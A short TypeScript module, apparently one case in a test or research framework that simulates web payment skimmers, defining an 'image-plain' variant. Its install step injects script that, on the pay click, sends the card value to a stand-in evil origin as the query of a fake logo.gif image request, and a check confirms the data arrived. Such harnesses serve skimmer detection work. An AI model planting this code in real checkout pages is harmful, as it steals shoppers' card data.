import { holds, js, skimmer } from '../behaviour.ts';
import { query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'image-plain',
  why: 'The oldest way: the values as they are, in the address of a picture, on the click that pays.',
  covers: ['reading: click', 'reading: named fields', 'sending: image', 'disguise: file ending'],
  base: 'direct',
  install: (site) =>
    site.inline(
      onPay(js`new Image().src = '${site.origins.evil}/logo.gif?i=' + encodeURIComponent(card());`),
    ),
  proof: holds((arrived) => query(arrived, 'i')),
});
